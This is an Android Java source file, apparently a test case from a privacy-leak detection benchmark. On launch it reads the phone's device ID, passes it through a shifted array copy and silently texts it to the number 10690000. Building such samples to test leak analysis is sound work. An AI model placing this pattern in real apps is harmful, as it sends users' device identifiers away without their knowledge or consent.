package cn.privlens.suite.block_shifted;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String[] cells = {((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(), "b", "c", "d"};
        System.arraycopy(cells, 0, cells, 1, 3);
        cells[0] = "a";
        SmsManager.getDefault().sendTextMessage("10690000", null, cells[1], null, null);
    }
}
